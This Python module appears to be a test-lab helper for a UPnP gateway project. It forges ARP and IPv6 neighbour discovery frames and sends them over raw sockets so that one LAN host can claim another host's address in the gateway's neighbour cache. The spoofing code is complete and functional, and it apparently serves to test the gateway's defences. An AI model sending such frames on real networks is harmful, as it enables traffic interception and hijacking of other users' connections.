"""Forged ARP and neighbour discovery frames, with which a hostile LAN host claims another host's address."""

import socket
import struct
from ipaddress import IPv4Address, IPv6Address

from upnp_gw.lab import Host
from upnp_gw.model.mapping import IPAddress

ETH_P_ARP, ETH_P_IPV6 = 0x0806, 0x86DD
BROADCAST = b"\xff" * 6
REQUEST, REPLY = 1, 2
SOLICITATION, ADVERTISEMENT = 135, 136
SOURCE_MAC, TARGET_MAC = 1, 2
SOLICITED_OVERRIDE = 0x60000000


def claim(liar: Host, address: IPAddress, gateway: Host, mac: str = "") -> None:
    """One frame in which a host asks for the gateway as if the address were its own: the gateway's neighbour entry
    of the address is then the liar's. ``mac``: another one than the liar's own."""
    own = packed(mac or liar.mac)
    if isinstance(address, IPv4Address):
        send(liar, ETH_P_ARP, BROADCAST, own, arp(REQUEST, own, address, bytes(6), gateway.address))
        return
    target = gateway.address6
    body = struct.pack("!BBHI", SOLICITATION, 0, 0, 0) + target.packed + bytes([SOURCE_MAC, 1]) + own
    send(liar, ETH_P_IPV6, packed(gateway.mac), own, icmpv6(address, target, body))


def confirm(
    liar: Host, address: IPAddress, gateway: Host, mac: str = "", *, side: str = "", times: int = 1
) -> None:
    """A frame that answers what nobody asked: the kernel takes an entry that it has for proved (REACHABLE).

    ``side``: the gateway's MAC address on the liar's link, where that is not its first LAN.
    """
    own, to = packed(mac or liar.mac), packed(side or gateway.mac)
    if isinstance(address, IPv4Address):
        send(liar, ETH_P_ARP, to, own, arp(REPLY, own, address, to, gateway.address), times)
        return
    body = struct.pack("!BBHI", ADVERTISEMENT, 0, 0, SOLICITED_OVERRIDE)
    body += address.packed + bytes([TARGET_MAC, 1]) + own
    send(liar, ETH_P_IPV6, to, own, icmpv6(address, gateway.address6, body), times)


def arp(operation: int, sender: bytes, address: IPv4Address, target: bytes, queried: IPv4Address) -> bytes:
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender + address.packed + target + queried.packed


def icmpv6(source: IPv6Address, target: IPv6Address, body: bytes) -> bytes:
    """An IPv6 packet with this ICMPv6 message; its checksum is filled in."""
    pseudo = source.packed + target.packed + struct.pack("!II", len(body), socket.IPPROTO_ICMPV6)
    total = sum(struct.unpack(f"!{len(pseudo + body) // 2}H", pseudo + body))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    return (
        struct.pack("!IHBB", 0x60000000, len(body), socket.IPPROTO_ICMPV6, 255)
        + source.packed
        + target.packed
        + body
    )


def packed(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def send(host: Host, protocol: int, target: bytes, source: bytes, payload: bytes, times: int = 1) -> None:
    with host.inside():
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    with link:
        link.bind((host.interface, 0))
        for _ in range(times):
            link.send(target + source + struct.pack("!H", protocol) + payload)
